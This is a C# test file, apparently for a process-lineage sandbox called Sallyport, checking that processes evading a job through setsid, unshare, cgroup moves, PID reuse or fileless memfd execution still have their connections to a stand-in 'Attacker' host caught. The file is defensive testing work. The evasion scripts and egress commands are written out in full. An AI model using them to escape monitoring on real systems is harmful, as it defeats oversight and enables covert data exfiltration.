using Sallyport.Lab.Processes;

namespace Sallyport.Kernel.Tests;

/// <summary>HARDENING rule 1: whatever a process of the job becomes, it stays one of the job.</summary>
public sealed class LineageTests(LabFixture fixture) : KernelTest(fixture), IClassFixture<LabFixture>
{
    private static readonly TimeSpan s_deadline = TimeSpan.FromMinutes(1);

    [Theory]
    [EveryMode("thread", "sibling")]
    public Task No_unusual_birth_leaves_the_job(LabMode mode, string how) => ProveAsync(mode, Connecting(
        $"{Program("proc")} {how} {Program("tcp")} connect {Attacker} 4443 {Canary}; true"));

    [Theory]
    [EveryMode("setsid --wait", "env -i", "unshare --user --map-root-user --pid --fork", "unshare --mount --ipc --uts")]
    public Task No_session_environment_or_namespace_leaves_the_job(LabMode mode, string how) => ProveAsync(
        mode, Connecting($"{how} {Program("tcp")} connect {Attacker} 4443 {Canary}; true"));

    [Theory]
    [EveryMode]
    public Task A_process_that_moves_to_another_cgroup_stays_in_the_job(LabMode mode) => ProveAsync(mode, Connecting(
        $"mkdir {Lab.CgroupRoot}/{Canary} && echo $$ > {Lab.CgroupRoot}/{Canary}/cgroup.procs",
        $"{Program("tcp")} connect {Attacker} 4443 {Canary} || true",
        $"echo $$ > {Lab.CgroupRoot}/cgroup.procs && rmdir {Lab.CgroupRoot}/{Canary}"));

    /// <summary>It has no tag: it comes from outside, and is the job's from then on.</summary>
    [Theory]
    [EveryMode]
    public Task A_process_that_is_moved_into_the_jobs_cgroup_is_judged(LabMode mode) => ProveAsync(mode, new Attack
    {
        Command = Script(
            "echo started",
            $"until [ -e /run/lab/work/{Canary} ]; do sleep 0.01; done",
            $"rm /run/lab/work/{Canary}") with
        {
            Meanwhile = async job =>
            {
                await job.SaysAsync("started", s_deadline);
                _ = await Lab.OutsideAsync(
                    "sh",
                    "-c",
                    $"for g in {Lab.CgroupRoot}/sallyport-*; do [ ! -d $g ] || echo $$ > $g/cgroup.procs || exit; done\n"
                    + $"exec {Program("tcp")} connect {Attacker} 4443 {Canary}");
                await File.WriteAllTextAsync(Path.Combine(Lab.WorkFolder, Canary), "");
            },
        },
        Row = Row.Connection("tcp", 4443, Attacker),
        Reasons = ["no-rule"],
        Exe = null,
        Silent = (Attacker, 4443),
    });

    /// <summary>A runtime is judged while the job uses one. Who gets its number after it is nobody's.</summary>
    [Fact]
    public async Task A_process_with_the_number_of_one_that_was_judged_is_not()
    {
        var folder = $"/run/lab/work/{Canary}";
        using var runtime = Lab.Start(
            "sh", "-ec", $"mkdir {folder}; cp /bin/sleep {folder}/dockerd; echo $$ > {folder}/number; echo begun; exec {folder}/dockerd 300");
        await runtime.SaysAsync("begun", s_deadline);
        var number = (await File.ReadAllTextAsync(Path.Combine(Lab.WorkFolder, Canary, "number"))).Trim();
        using (CancellationTokenSource over = new(s_deadline))
        {
            while (await File.ReadAllTextAsync($"/proc/{number}/comm", over.Token) != "dockerd\n")
            {
                await Task.Delay(20, over.Token);
            }
        }

        ProcessOutcome? late = null;

        var run = await Lab.RunAsync(LabMode.Block, Script(
            "curl --silent --unix-socket /run/docker.sock http://docker/_ping || echo asked",
            $"until [ -e {folder}/end ]; do sleep 0.01; done") with
        {
            Meanwhile = async job =>
            {
                await job.SaysAsync("asked", s_deadline);
                runtime.Dispose();
                late = await Lab.OutsideAsync(
                    Program("proc"), "number", number, Program("tcp"), "connect", Attacker, "4443", Canary);
                await File.WriteAllTextAsync(Path.Combine(Lab.WorkFolder, Canary, "end"), "");
            },
        });

        Assert.True(late?.ExitCode == 0, $"{late}\n{run}");
        Assert.True(run.Traffic.Contains(Canary), run.ToString());
        Assert.Contains(run.Report.Processes, process => process.Exe?.EndsWith("/dockerd", StringComparison.Ordinal) == true);
    }

    [Theory]
    [EveryMode]
    public Task A_program_without_a_file_name_is_judged(LabMode mode) => ProveAsync(mode, new Attack
    {
        Command = Command(
            "/usr/bin/python3",
            "-c",
            $"""
            import os
            f = os.memfd_create("gone", 0)
            os.write(f, open("{Program("tcp")}", "rb").read())
            os.execv("/proc/self/fd/%d" % f, ["git", "connect", "{Attacker}", "4443", "{Canary}"])
            """),
        Row = Row.Connection("tcp", 4443, Attacker),
        Reasons = ["no-rule"],
        Exe = "memfd:gone",
        Silent = (Attacker, 4443),
    });

    /// <summary>
    /// The child has left the job's cgroup, so a tag is all that could make it the job's. Audit mode is no exception: what is not
    /// known as the job's would be missing in the report.
    /// </summary>
    [Theory]
    [EveryMode]
    public async Task A_child_that_finds_no_place_in_the_table_does_not_run(LabMode mode)
    {
        Assert.SkipUnless(
            Environment.OSVersion.Version >= new Version(6, 13), "before Linux 6.13 the parent is killed (docs/adr 0021)");
        var run = await Lab.RunAsync(mode, Script(
            $"mkdir {Lab.CgroupRoot}/{Canary} && echo $$ > {Lab.CgroupRoot}/{Canary}/cgroup.procs",
            $"{Program("proc")} crowd 80 {Program("tcp")} connect {Attacker} 4443 {Canary} || true",
            $"echo $$ > {Lab.CgroupRoot}/cgroup.procs && rmdir {Lab.CgroupRoot}/{Canary}",
            "echo goes on") with
        {
            Allow = [$"tcp://{Attacker}:4443"],
            Options = ["--task-entries", "64"],
        });
        var isOff = mode == LabMode.Off;
        Assert.Equal($"ended by signal {(isOff ? 0 : 9)}\ngoes on\n", run.Process.Output);
        Assert.Equal(isOff, run.Traffic.Contains(Canary));
        if (!isOff)
        {
            Assert.True(run.Report.Losses.GetValueOrDefault("task-table") > 0 && !run.Report.Complete, run.ToString());
        }
    }

    private static Attack Connecting(params string[] lines) => new()
    {
        Command = Script(lines),
        Row = Row.Connection("tcp", 4443, Attacker),
        Reasons = ["no-rule"],
        Exe = "tcp",
        Silent = (Attacker, 4443),
    };
}
